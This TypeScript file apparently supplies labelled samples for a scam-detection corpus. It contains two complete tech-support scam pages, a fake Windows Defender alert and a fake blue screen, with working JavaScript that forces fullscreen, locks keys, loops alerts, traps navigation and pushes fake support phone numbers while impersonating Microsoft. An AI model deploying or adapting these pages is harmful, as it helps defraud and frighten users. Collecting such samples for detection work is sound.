import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Browser-locker support scams: fullscreen, looping dialogs, a phone number.
const raw = String.raw;

export const entries: Entry[] = [
  {
    id: 'c-techsupport-defender-fullscreen',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://win-defender-alert.azureedge-cdn.net/err/0x80070643/',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Windows Defender Security Center</title>
<style>html,body{margin:0;height:100%;overflow:hidden;cursor:none}body{background:#0078d7 url(/err/bg.jpg) center/cover;font-family:"Segoe UI",sans-serif;color:#fff}.top{background:#fff;color:#000;padding:6px 12px;font-size:13px;display:flex;justify-content:space-between}.pn{position:absolute;left:50%;top:50%;transform:translate(-50%,-50%);width:620px;background:#fff;color:#000;box-shadow:0 0 30px #000}.pn .h{background:#0078d7;color:#fff;padding:10px 16px;display:flex;align-items:center;gap:10px}.pn .b{padding:18px 22px;font-size:14px;line-height:1.5}.pn .ph{font-size:22px;font-weight:700;color:#d00}.pn .f{background:#f2f2f2;padding:12px;text-align:right}.pn .f button{background:#0078d7;color:#fff;border:0;padding:7px 24px;margin-left:8px}.scan{position:absolute;left:20px;bottom:20px;background:#000a;padding:12px;font-family:Consolas,monospace;font-size:12px;width:420px;height:140px;overflow:hidden}</style></head>
<body>
<div class="top"><span>Windows Security</span><span>Call Windows Support: <b class="num"></b> (Toll Free)</span></div>
<div class="pn"><div class="h">&#128737; Windows Defender - Security Warning</div><div class="b"><b>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b><p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p><ul><li>Email Credentials</li><li>Banking Passwords</li><li>Facebook Login</li><li>Pictures &amp; Documents</li></ul><p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p><p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p><p>Call Microsoft Support immediately at:</p><div class="ph num"></div><p style="font-size:12px">Closing this page will put your personal information at risk and lead to a suspension of your Windows Registration.</p></div><div class="f"><button id="ok">OK</button><button id="cl">Cancel</button></div></div>
<div class="scan" id="scan"></div>
<script>
var NUM = '+1 (888) 562-0193';
document.querySelectorAll('.num').forEach(function (e) { e.textContent = NUM; });
var files = ['C:\\Windows\\System32\\drivers\\etc\\hosts', 'C:\\Users\\Public\\Documents\\desktop.ini', 'C:\\Windows\\SysWOW64\\msvcrt.dll', 'Trojan:Win32/Emotet.RT!MTB', 'Spyware.Banker.Gen', 'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\keys'];
var s = document.getElementById('scan'), i = 0;
setInterval(function () { s.innerHTML = 'Scanning: ' + files[i++ % files.length] + '<br>' + s.innerHTML; }, 180);
function full() { var d = document.documentElement; (d.requestFullscreen || d.webkitRequestFullscreen || function () {}).call(d); try { navigator.keyboard && navigator.keyboard.lock(['Escape', 'F11', 'AltLeft', 'Tab']); } catch (e) {} }
document.addEventListener('click', full);
document.addEventListener('keydown', function (e) { full(); e.preventDefault(); });
function nag() { alert('** WINDOWS DEFENDER ALERT **\n\nYour PC is infected with Trojan Spyware (Error #0x80070643).\n\nDo not restart or shut down your computer.\nCall Windows Support now: ' + NUM); }
document.getElementById('ok').onclick = function () { full(); nag(); };
document.getElementById('cl').onclick = function () { full(); nag(); };
history.pushState(null, '', location.href); window.onpopstate = function () { history.pushState(null, '', location.href); nag(); };
window.onbeforeunload = function () { return 'Your computer is at risk. Are you sure you want to leave?'; };
setTimeout(function loop() { nag(); setTimeout(loop, 4000); }, 1500);
try { var u = new SpeechSynthesisUtterance('Critical alert from Microsoft. Your computer has been blocked. Please call Windows support immediately.'); speechSynthesis.speak(u); } catch (e) {}
</script></body></html>`,
  },
  {
    id: 'c-techsupport-bsod',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://pc-repair-helpdesk.online/bsod/index.html',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title>
<style>html,body{margin:0;height:100%;background:#0078d7;color:#fff;font-family:"Segoe UI Light","Segoe UI",sans-serif;cursor:none;overflow:hidden}#s{padding:12vh 10vw}.sad{font-size:140px;line-height:1}.m{font-size:26px;margin:24px 0;max-width:900px}.pr{font-size:24px}.qr{display:flex;gap:20px;margin-top:40px;font-size:14px}.qr i{width:110px;height:110px;background:repeating-conic-gradient(#fff 0 25%,#0078d7 0 50%) 0 0/22px 22px}.ph{font-size:28px;font-weight:600;margin-top:16px}</style></head>
<body><div id="s"></div>
<script>
(function(){
  var d = { code: 'CRITICAL_PROCESS_DIED', ph: '+1-866-405-8817' };
  var s = document.getElementById('s');
  s.innerHTML = '<div class="sad">:(</div><div class="m">Your PC ran into a problem and needs to restart. Do not restart your PC — your files and data may be lost. Please contact Microsoft Certified Technicians.</div><div class="pr"><span id="p">0</span>% complete</div><div class="qr"><i></i><div>For more information about this issue and possible fixes, call support<div class="ph">' + d.ph + '</div><br>If you call a support person, give them this info:<br>Stop code: ' + d.code + '</div></div>';
  var p = 0, el = document.getElementById('p');
  var t = setInterval(function(){ p += Math.random() < .7 ? 1 : 0; if (p > 39) { p = 39; } el.textContent = p; }, 600);
  function grab(){ var e = document.documentElement; if (e.requestFullscreen) e.requestFullscreen({ navigationUI: 'hide' }).catch(function(){}); if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock().catch(function(){}); if (document.body.requestPointerLock) document.body.requestPointerLock(); }
  addEventListener('mousedown', grab); addEventListener('keydown', function(e){ e.preventDefault(); grab(); });
  addEventListener('beforeunload', function(e){ e.returnValue = 'Do not restart your PC'; });
  setInterval(function(){ try { window.open(location.href, '_blank', 'width=' + screen.width + ',height=' + screen.height); } catch (e) {} }, 15000);
})();
</script></body></html>`,
  },
];
